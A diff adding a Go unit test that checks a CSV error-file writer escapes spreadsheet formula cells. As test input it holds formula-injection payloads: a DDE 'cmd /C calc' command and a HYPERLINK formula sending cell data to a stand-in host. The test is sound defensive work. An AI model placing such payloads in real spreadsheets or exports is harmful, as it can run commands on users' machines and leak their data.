@@ -116,3 +116,42 @@ func TestErrorFileLimit(t *testing.T) {
 		t.Fatalf("Check made an error file of %d bytes (%v), want none", len(rep.ErrorFile), err)
 	}
 }
+
+// Cells that a spreadsheet would run as a formula are written after a single
+// quote, in the header and in every dropped row, wherever the partner's text
+// lands; the line column, and plain signed numbers, stay numbers.
+func TestErrorFileFormulas(t *testing.T) {
+	in := "store;ean;article_number;quantity;price;=cmd|' /C calc'!A0\n" +
+		"\"=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\";4006381333931;+1+1;5;19.99;x\n" +
+		"S1;@SUM(A1:A9);-2+3;-5;+1.50;\"\t=1\"\n" +
+		"S1;4006381333931;\"\r=2\";x;-;ok\n"
+	rep, err := CheckWithErrorFile(strings.NewReader(in), map[string]bool{"S1": true}, nil, 1<<20)
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := csv.NewReader(bytes.NewReader(rep.ErrorFile))
+	r.Comma = ';'
+	recs, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("error file %q: %v", rep.ErrorFile, err)
+	}
+	want := [][]string{
+		{"store", "ean", "article_number", "quantity", "price", "'=cmd|' /C calc'!A0", "line"},
+		{`'=HYPERLINK("http://x.test/?"&A1,"Click")`, "4006381333931", "'+1+1", "5", "19.99", "x", "2"},
+		{"S1", "'@SUM(A1:A9)", "'-2+3", "-5", "+1.50", "'\t=1", "3"},
+		{"S1", "4006381333931", "'\r=2", "x", "'-", "ok", "4"},
+	}
+	if len(recs) != len(want) {
+		t.Fatalf("error file has %d records, want %d:\n%s", len(recs), len(want), rep.ErrorFile)
+	}
+	for i, w := range want {
+		if got := recs[i][:len(w)]; fmt.Sprint(got) != fmt.Sprint(w) {
+			t.Errorf("record %d = %q, want %q", i+1, got, w)
+		}
+		for _, cell := range recs[i] {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber(cell[1:]) {
+				t.Errorf("record %d: cell %q starts as a formula", i+1, cell)
+			}
+		}
+	}
+}
